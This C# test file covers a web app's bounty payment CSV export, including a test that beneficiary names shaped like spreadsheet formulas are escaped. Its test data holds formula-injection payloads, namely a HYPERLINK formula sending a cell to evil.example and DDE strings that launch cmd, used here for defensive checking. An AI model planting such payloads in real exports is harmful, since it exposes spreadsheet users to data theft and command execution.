using System.Globalization;
using System.Net;
using CsvHelper;
using Matchmaker.Data.Seeding;
using Matchmaker.Domain.Bounties;
using Matchmaker.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Matchmaker.Web.Tests.Bounties;

/// <summary>The payment export: approved, unpaid bounties only, dollars with two decimals, and no cell a spreadsheet would run.</summary>
public sealed class BountyCsvExportTests(MatchmakerFactory factory) : IClassFixture<MatchmakerFactory>
{
    private static readonly string[] Header = ["bounty_id", "lead_id", "beneficiary", "partner_id", "amount_usd", "approved_at_utc", "approved_by"];
    private readonly BountySteps _steps = new(factory);

    [Fact]
    public async Task The_export_has_a_header_and_exactly_the_approved_unpaid_bounties()
    {
        using var finance = await BountySteps.FinanceAsync(factory);
        var extra = await _steps.ApprovedBountyAsync(BountySteps.LoneStar, BountySteps.Lakeshore, DemoAccounts.SecondAdmin);
        var expected = await factory.InDatabaseAsync(db => db.Bounties.Where(b => b.Status == BountyStatus.Approved).Select(b => b.Id).OrderBy(id => id).ToListAsync());

        var (response, rows) = await ExportAsync(finance);

        Assert.Equal(HttpStatusCode.OK, response);
        Assert.Equal(Header, rows[0]);
        var body = rows.Skip(1).ToList();
        Assert.Equal(expected, body.Select(r => int.Parse(r[0], CultureInfo.InvariantCulture)).OrderBy(id => id));
        Assert.Contains(extra, expected);
        Assert.Contains(await _steps.BountyIdOfCustomerAsync("Tailspin Toys"), expected);
        Assert.DoesNotContain(await _steps.BountyIdOfCustomerAsync("Fabrikam Fixtures"), expected);
        Assert.DoesNotContain(await _steps.BountyIdOfCustomerAsync("Proseware Inc"), expected);
        var tailspinId = (await _steps.BountyIdOfCustomerAsync("Tailspin Toys")).ToString(CultureInfo.InvariantCulture);
        var tailspin = body.Single(r => r[0] == tailspinId);
        Assert.Equal(BountySteps.Lakeshore, tailspin[2]);
        Assert.Equal("4100217", tailspin[3]);
        Assert.Equal("250.00", tailspin[4]);
        Assert.Equal(DemoAccounts.Admin, tailspin[6]);
        Assert.All(body, r => Assert.Equal(Header.Length, r.Length));
    }

    [Fact]
    public async Task The_export_is_a_csv_download()
    {
        using var admin = await BountySteps.AdminAsync(factory);

        using var response = await admin.GetAsync("/admin/bounties/export");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("matchmaker-bounties-", response.Content.Headers.ContentDisposition?.FileNameStar ?? response.Content.Headers.ContentDisposition?.FileName, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(BountySteps.Cascade, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cascade\")")]
    [InlineData(BountySteps.Golden, "+1+cmd|' /C calc'!A0")]
    [InlineData(BountySteps.Empire, "-2+3+cmd|' /C calc'!A0")]
    [InlineData(BountySteps.Peachtree, "@SUM(1+1)*cmd|' /C calc'!A0")]
    public async Task A_beneficiary_name_that_looks_like_a_formula_is_escaped(string organization, string hostileName)
    {
        using var admin = await BountySteps.AdminAsync(factory);
        var bountyId = await _steps.ApprovedBountyAsync(organization, BountySteps.Lakeshore, DemoAccounts.SecondAdmin);
        var organizationId = await _steps.OrganizationIdAsync(organization);
        await factory.InDatabaseAsync(db => db.Organizations.Where(o => o.Id == organizationId).ExecuteUpdateAsync(s => s.SetProperty(o => o.LegalName, hostileName)));

        var (_, rows) = await ExportAsync(admin);

        var cell = rows.Single(r => r[0] == bountyId.ToString(CultureInfo.InvariantCulture))[2];
        Assert.False("=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"The cell starts a formula: {cell}");
        Assert.EndsWith(hostileName, cell, StringComparison.Ordinal);
        Assert.All(rows.Skip(1), r => Assert.False(r.Any(c => c.Length > 0 && "=+-@".Contains(c[0], StringComparison.Ordinal)), string.Join(",", r)));
    }

    private static async Task<(HttpStatusCode Status, List<string[]> Rows)> ExportAsync(HttpClient browser)
    {
        using var response = await browser.GetAsync("/admin/bounties/export");
        using var reader = new StringReader(await response.Content.ReadAsStringAsync());
        using var csv = new CsvParser(reader, CultureInfo.InvariantCulture);
        var rows = new List<string[]>();
        while (await csv.ReadAsync())
        {
            rows.Add(csv.Record!);
        }

        return (response.StatusCode, rows);
    }
}
